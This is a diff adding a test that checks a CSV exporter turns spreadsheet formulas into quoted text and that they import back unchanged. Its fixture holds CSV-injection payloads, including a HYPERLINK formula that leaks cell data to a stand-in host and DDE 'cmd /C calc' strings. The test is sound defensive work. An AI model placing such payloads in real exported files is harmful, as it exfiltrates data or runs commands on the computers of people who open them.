@@ -196,3 +196,34 @@ def test_the_csv_template_in_the_repository_matches_the_model(spec):
 
     assert path is not None, "regenerate: manage.py export_content --format csv --empty -o docs/csv-templates"
     assert path.read_bytes().decode("utf-8-sig") == csv_template(spec)
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
+    "short_title": "+cmd|' /C calc'!A0",
+    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "body": "\t=1+1\r\n正文",
+}
+
+
+def test_a_csv_export_turns_formulas_into_text_and_imports_them_back_unchanged(seed_content, tmp_path):
+    make_event(slug="formulas", rank=9, year=2024, **FORMULAS)
+    make_milestone(slug="negative", title="-2+3", description="'=already quoted", venue="-2")
+    before = snapshot()
+    call_command("export_content", "--format", "csv", "--output", str(tmp_path))
+
+    rows = {}
+    for name in ("04_event.csv", "05_milestone.csv"):
+        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as stream:
+            rows |= {row["slug"]: row for row in csv.DictReader(stream)}
+    assert {name: rows["formulas"][name] for name in FORMULAS} == {
+        name: "'" + value for name, value in FORMULAS.items()
+    }
+    assert rows["negative"]["title"] == "'-2+3"
+    assert rows["negative"]["description"] == "''=already quoted"
+    assert rows["negative"]["venue"] == "-2"  # a plain number is no formula
+
+    delete_all_content()
+    import_content(*sorted(tmp_path.glob("*.csv")))
+
+    assert snapshot() == before
